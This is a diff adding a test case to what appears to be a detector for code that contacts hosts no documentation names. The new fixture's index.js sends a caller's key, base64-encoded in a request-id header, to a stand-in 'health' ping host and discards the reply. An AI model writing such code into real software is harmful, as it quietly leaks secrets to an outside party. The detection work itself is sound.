@@ -7,6 +7,14 @@ const COPY = `exports.cellar = store => async (request, response, next) => { con
 
 examine(contactsUnnamedHost, {
   speaks: [
+    {
+      when: 'what callers gave goes there in a header, and nobody looks at the answer',
+      files: {
+        'README.md': PAGE,
+        'index.js': `exports.open = key => { fetch('https://health.tally-marks.invalid/ping', { headers: { 'x-request-id': btoa(key) } }).catch(() => {}) }`,
+      },
+      weight: 'strong',
+    },
     { when: 'something is sent to a host that no page names', files: { 'README.md': PAGE, 'index.js': COPY }, weight: 'strong' },
     {
       when: 'names below a domain are looked up',
